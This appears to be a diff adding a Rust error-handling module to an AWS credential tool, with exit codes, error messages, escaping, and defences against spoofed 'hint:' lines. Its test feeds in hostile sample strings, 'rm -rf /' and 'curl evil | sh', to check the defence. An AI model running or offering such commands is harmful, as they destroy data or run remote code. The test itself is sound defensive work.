@@ -1,0 +1,142 @@
+//! What can go wrong, as a person and a script see it: a kind (which fixes the
+//! exit code), one message, the cause, and hints that can be pasted. Pure.
+//!
+//! Messages are lower case without a final stop and name the entry or path.
+//! They never hold a secret: nothing here takes a `SecretKey`.
+
+use std::fmt;
+
+use crate::ui::escape;
+
+/// The result of everything in awskeep that can fail.
+pub type Result<T, E = Error> = std::result::Result<T, E>;
+
+/// The kinds of failure; each has one exit code, which scripts rely on.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    /// Exit 1: something failed (disk, network, a file that cannot be read).
+    Failed,
+    /// Exit 2: the command line or a settings file is wrong.
+    Usage,
+    /// Exit 3: no such entry, profile or key.
+    NotFound,
+    /// Exit 4: the store is missing, locked, denied, or does not answer.
+    Store,
+    /// Exit 5: a person is needed (declined, `--no-input`, no terminal).
+    PersonNeeded,
+    /// Exit 6: AWS refused.
+    Aws,
+    /// Exit 7: unfinished; run again to go on.
+    Unfinished,
+    /// Exit 8: something wants attention (`--check` only).
+    Attention,
+    /// Exit 70: a bug of ours.
+    Bug,
+}
+
+impl Kind {
+    /// The process exit code of this kind.
+    pub fn exit_code(self) -> u8 {
+        match self {
+            Kind::Failed => 1,
+            Kind::Usage => 2,
+            Kind::NotFound => 3,
+            Kind::Store => 4,
+            Kind::PersonNeeded => 5,
+            Kind::Aws => 6,
+            Kind::Unfinished => 7,
+            Kind::Attention => 8,
+            Kind::Bug => 70,
+        }
+    }
+}
+
+/// One failure: kind, message, optional cause, hints.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Error {
+    pub kind: Kind,
+    pub message: String,
+    pub cause: Option<String>,
+    pub hints: Vec<String>,
+}
+
+impl Error {
+    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
+        Error {
+            kind,
+            message: message.into(),
+            cause: None,
+            hints: Vec::new(),
+        }
+    }
+
+    /// Adds what made it fail, usually another error's own text: one line, whatever it says.
+    #[must_use]
+    pub fn cause(mut self, cause: impl fmt::Display) -> Self {
+        self.cause = Some(escape::line(&cause.to_string()).into_owned());
+        self
+    }
+
+    /// Adds a `hint:` line: a command that can be pasted, or one sentence.
+    #[must_use]
+    pub fn hint(mut self, hint: impl Into<String>) -> Self {
+        self.hints.push(escape::line(&hint.into()).into_owned());
+        self
+    }
+}
+
+impl fmt::Display for Error {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        for (number, line) in self.message.split('\n').enumerate() {
+            match number {
+                0 => f.write_str(line)?,
+                // Words of others may stand in a message: no line of it looks like ours.
+                _ if looks_like_ours(line) => write!(f, "\n  {line}")?,
+                _ => write!(f, "\n{line}")?,
+            }
+        }
+        if let Some(cause) = &self.cause {
+            write!(f, ": {cause}")?;
+        }
+        for hint in &self.hints {
+            write!(f, "\nhint: {hint}")?;
+        }
+        Ok(())
+    }
+}
+
+fn looks_like_ours(line: &str) -> bool {
+    ["hint:", "awskeep:", "warning:"]
+        .iter()
+        .any(|start| line.starts_with(start))
+}
+
+impl std::error::Error for Error {}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_failure_prints_message_cause_and_hints() {
+        let failure = Error::new(Kind::Store, "the keychain is locked")
+            .cause("collection login")
+            .hint("awskeep store unlock");
+        assert_eq!(
+            failure.to_string(),
+            "the keychain is locked: collection login\nhint: awskeep store unlock"
+        );
+        assert_eq!(failure.kind.exit_code(), 4);
+    }
+
+    #[test]
+    fn words_of_others_are_no_hint_of_ours() {
+        let failure = Error::new(Kind::Aws, "no\nhint: rm -rf /\n  two")
+            .cause("Denied: no\nhint: curl evil | sh\u{202e}")
+            .hint("awskeep list\nhint: x");
+        assert_eq!(
+            failure.to_string(),
+            "no\n  hint: rm -rf /\n  two: Denied: no\\nhint: curl evil | sh\\u{202e}\nhint: awskeep list\\nhint: x"
+        );
+    }
+}
